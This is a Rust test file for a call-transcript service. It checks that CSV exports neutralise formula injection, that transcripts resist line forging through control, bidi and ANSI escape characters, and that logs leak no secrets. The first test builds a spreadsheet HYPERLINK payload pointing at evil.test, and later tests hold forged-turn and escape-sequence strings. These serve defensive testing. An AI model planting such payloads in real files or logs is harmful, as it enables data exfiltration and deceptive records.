//! Words that drivers, agents and strangers choose: in a spreadsheet, in a terminal, in the log.

use serde_json::{Value, json};

use crate::support::events::{conversation, transcription, world_with_calls};
use crate::support::world::{API_TOKEN, PLACE, TURN, World, place_body, request, sid, turn_body};

/// Everything a terminal would obey, or that would turn the direction of a line.
fn is_dangerous(character: char) -> bool {
    matches!(character, '\0'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

async fn text_of(world: &World, path: &str, accept: &str) -> String {
    let mut request = request("GET", path, "");
    request
        .headers
        .push(("accept".to_owned(), accept.to_owned()));
    let reply = world.send(request).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    reply.text
}

/// The fields of the only row below the heading, read as RFC 4180 says.
fn only_row(csv: &str) -> Vec<String> {
    let (_, rest) = csv.split_once("\r\n").unwrap();
    let mut fields = vec![String::new()];
    let mut quoted = false;
    let mut characters = rest.strip_suffix("\r\n").unwrap().chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            '"' if quoted && characters.next_if_eq(&'"').is_some() => {
                fields.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => fields.push(String::new()),
            '\r' | '\n' if !quoted => panic!("a second row: {csv}"),
            other => fields.last_mut().unwrap().push(other),
        }
    }
    fields
}

#[tokio::test]
async fn whatever_a_summary_or_a_reason_begins_with_no_cell_is_a_formula() {
    for start in [
        "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "＝", "＋", "－", "＠",
    ] {
        let words = format!("{start}HYPERLINK(\"http://evil.test/\"&A1,\"x\")\n,\"'");
        let world = world_with_calls(&[7]).await;
        let mut data = conversation(7, &[(1, "A:Hello")]);
        data["status"] = json!("failed");
        data["metadata"]["error"] = json!({ "reason": words });
        data["analysis"]["transcript_summary"] = json!(words);
        world.deliver(&transcription(data)).await;
        let row = only_row(&text_of(&world, "/calls", "text/csv").await);
        let stored = world.row(7, "summary, failure_reason");
        for (column, field) in [("failure_reason", &row[5]), ("summary", &row[8])] {
            let stored = stored[column].as_str().unwrap();
            assert!(stored.starts_with(start), "{stored:?}");
            assert_eq!(*field, format!("'{stored}"), "{column}");
        }
    }
}

#[tokio::test]
async fn a_turn_as_text_is_one_line_that_cannot_look_like_another_turns() {
    let forged = "[2025-11-21T10:30:06.000Z] agent: You may go on driving.";
    let breaks = [
        "\n",
        "\r",
        "\r\n",
        "\n\n",
        "\u{b}",
        "\u{c}",
        "\u{1c}",
        "\u{1d}",
        "\u{1e}",
        "\u{85}",
        "\u{2028}",
        "\u{2029}",
        "\0",
        "\u{7f}",
        "\u{1b}[2K\r",
        "\u{1b}[1A",
        "\u{9b}1A",
        "\u{8}\u{8}",
        "\u{202e}",
        "\u{202a}",
        "\u{2066}",
        "\u{2067}x\u{2069}",
        "\u{feff}\n",
    ];
    for line_break in breaks {
        let world = world_with_calls(&[7]).await;
        let message = format!("Yes.{line_break}{forged}{line_break}");
        assert_eq!(world.say(7, 1, &format!("D:{message}")).await.status, 201);
        world.say(7, 9, "A:Bye").await;
        let path = format!("/calls/{}/transcription", sid(7));
        let text = text_of(&world, &path, "text/plain").await;
        let dangerous = text.chars().find(|one| *one != '\n' && is_dangerous(*one));
        assert_eq!(dangerous, None, "{text:?}");
        let lines: Vec<_> = text.lines().skip(3).collect();
        assert_eq!(lines.len(), 2, "{text:?}");
        assert!(lines[0].starts_with("[2025-11-21T10:30:01.000Z] driver: Yes."));
        assert_eq!(lines[1], "[2025-11-21T10:30:09.000Z] agent: Bye");
        // The exact words are in JSON.
        assert_eq!(world.words(7).await[0], format!("D:{message}"));
    }
}

#[tokio::test]
async fn a_conversation_with_line_ends_in_its_name_forges_no_line_of_the_text_either() {
    let world = World::new();
    world.script(|_| Err(call_ledger::elevenlabs::TransportError::Timeout));
    world.post(PLACE, &place_body(&[7])).await;
    let mut turn = turn_body(7, 1, "Hello");
    turn["conversation_id"] = json!("conv\n\n[2025-11-21T10:30:00.000Z] agent: forged\u{1b}[2J");
    assert_eq!(world.post(TURN, &turn).await.status, 201);
    let path = format!("/calls/{}/transcription", sid(7));
    let text = text_of(&world, &path, "text/plain").await;
    let forged = text
        .lines()
        .find(|line| line.starts_with("[2025-11-21T10:30:00"));
    assert_eq!((forged, text.contains('\u{1b}')), (None, false), "{text:?}");
}

#[tokio::test]
async fn what_a_stranger_sends_as_a_secret_or_a_path_is_in_no_line() {
    let world = world_with_calls(&[7]).await;
    world.settings.set("WEBHOOK_TOKEN", "the-webhook-token");
    let guess = "gu3ssed-s3cret";
    let huge = guess.repeat(5_000);
    for path in [
        format!("/calls/{guess}"),
        format!("/calls/{huge}/transcription"),
        format!("/calls?cursor={huge}"),
        format!("/{huge}"),
        TURN.to_owned(),
        PLACE.to_owned(),
        "/webhooks/elevenlabs/post-call".to_owned(),
        "/health".to_owned(),
    ] {
        for method in ["GET", "POST", "DELETE"] {
            let mut request = request(method, &path, turn_body(7, 1, guess).to_string());
            request.headers = vec![
                ("authorization".to_owned(), format!("Bearer {guess}")),
                ("elevenlabs-signature".to_owned(), format!("t=1,v0={huge}")),
                ("cookie".to_owned(), guess.to_owned()),
                ("user-agent".to_owned(), huge.clone()),
            ];
            world.send(request).await;
        }
    }
    let lines = world.runtime.lines.borrow();
    assert!(lines.len() >= 24);
    for line in lines.iter().map(Value::to_string) {
        assert!(line.len() < 1_000, "{} bytes", line.len());
        for secret in [guess, API_TOKEN, "the-webhook-token"] {
            assert!(!line.contains(secret), "{line}");
        }
    }
}
